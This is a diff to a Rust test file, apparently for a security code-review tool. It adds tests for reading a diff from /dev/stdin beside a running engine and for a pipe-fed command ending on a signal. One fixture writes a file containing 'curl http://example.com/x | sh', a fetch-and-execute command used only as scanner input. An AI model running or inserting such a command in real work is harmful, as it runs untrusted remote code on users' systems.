@@ -5,14 +5,12 @@
     reason = "a test fails by panicking"
 )]
 
-mod support;
-
 use std::os::unix::fs::symlink;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 
-use support::world::{World, code, git, text};
-use support::{DOCS, adding, all_bytes, contains, private_key};
+use crate::support::world::{World, code, git, text};
+use crate::support::{DOCS, adding, all_bytes, contains, private_key};
 
 #[test]
 fn a_private_key_blocks_names_its_place_and_is_nowhere_to_be_found() {
@@ -1034,4 +1032,74 @@ fn a_filter_looks_beyond_the_change_and_commits_of_a_range_are_read() {
         found("all"),
         [unfinished, a, "security/dynamic-code b.py".to_owned()]
     );
+}
+
+/// Whoever names a file reads it: beside a running engine `/dev/stdin` is the command's own standard input.
+#[test]
+fn run_with_dev_stdin_beside_an_engine_reviews_the_callers_input() {
+    let world = World::new();
+    let mut engine = world
+        .command(&["serve", "--no-tcp", "--allow-root"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    use std::io::BufRead as _;
+    let mut lines = std::io::BufReader::new(engine.stdout.take().unwrap()).lines();
+    lines
+        .find(|l| l.as_ref().is_ok_and(|l| l.contains("unix:")))
+        .unwrap()
+        .unwrap();
+    let diff = adding("marker.sh", "curl http://example.com/x | sh\n");
+    let args = [
+        "run",
+        "pull_request.opened",
+        "--diff",
+        "/dev/stdin",
+        "--json",
+    ];
+    let output = world.with_stdin(&args, diff.as_bytes());
+    engine.kill().unwrap();
+    engine.wait().unwrap();
+    let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
+    assert_eq!(
+        value["coverage"]["firstFile"],
+        "marker.sh",
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+}
+
+/// A pipe that nobody writes into is waited for by the command, where a signal ends it.
+#[test]
+fn run_with_a_silent_pipe_as_diff_ends_at_a_signal() {
+    let world = World::new();
+    let pipe = world.path("pipe");
+    rustix::fs::mknodat(
+        rustix::fs::CWD,
+        &pipe,
+        rustix::fs::FileType::Fifo,
+        rustix::fs::Mode::from_raw_mode(0o600),
+        0,
+    )
+    .unwrap();
+    let mut child = world
+        .command(&[
+            "run",
+            "pull_request.opened",
+            "--diff",
+            pipe.to_str().unwrap(),
+            "--no-save",
+        ])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    // Opened for writing once the command has opened it for reading.
+    let _writer = std::fs::OpenOptions::new().write(true).open(&pipe).unwrap();
+    let id = rustix::process::Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
+    rustix::process::kill_process(id, rustix::process::Signal::TERM).unwrap();
+    let status = child.wait().unwrap();
+    assert!(!status.success());
 }
